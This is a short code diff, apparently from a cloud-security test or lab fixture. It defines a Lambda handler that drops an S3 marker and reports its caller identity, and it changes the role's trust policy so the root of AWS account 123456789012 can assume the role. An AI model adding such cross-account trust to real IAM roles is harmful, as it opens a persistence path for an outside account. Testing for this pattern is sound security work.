@@ -25,9 +25,10 @@ def handler(event, context):
     boto3.client("s3").put_object(Bucket={BUCKET!r}, Key={MARK!r}, Body=b"")
     return boto3.client("sts").get_caller_identity()["Arn"]
 """
+PRINCIPALS = {"Service": "lambda.amazonaws.com", "AWS": "arn:aws:iam::123456789012:root"}
 TRUST = {
     "Version": "2012-10-17",
-    "Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}],
+    "Statement": [{"Effect": "Allow", "Principal": PRINCIPALS, "Action": "sts:AssumeRole"}],
 }
 
 
